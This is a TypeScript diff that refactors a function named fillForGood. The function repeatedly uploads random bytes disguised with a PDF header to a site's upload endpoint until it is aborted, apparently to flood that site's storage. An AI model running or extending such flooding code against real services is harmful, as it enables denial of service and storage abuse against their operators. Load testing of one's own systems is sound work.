@@ -65,7 +65,7 @@ export async function fillForGood(
   site: string,
   { signal, addresses = oneAddress }: Attack,
 ): Promise<Statuses> {
-  const { statuses, open, put, complete, quote } = stranger(site, { key: await publicKeyOf(site), signal })
+  const { statuses, open, putAll, complete, quote } = stranger(site, { key: await publicKeyOf(site), signal })
   // A PDF is kept as it is.
   const bytes = Buffer.concat([Buffer.from('%PDF-1.7\n'), randomBytes(selection - 9)])
   for (let sent = 0; !signal.aborted; sent += 1) {
@@ -75,11 +75,7 @@ export async function fillForGood(
       await pause(200)
       continue
     }
-    let start = 0
-    for (const { url, size } of upload.parts) {
-      await put(address, url, bytes.subarray(start, start + size), size)
-      start += size
-    }
+    await putAll(address, upload, bytes)
     const completed = await complete(address, upload)
     if (completed.status !== 200) continue
     // Our own server's answer.
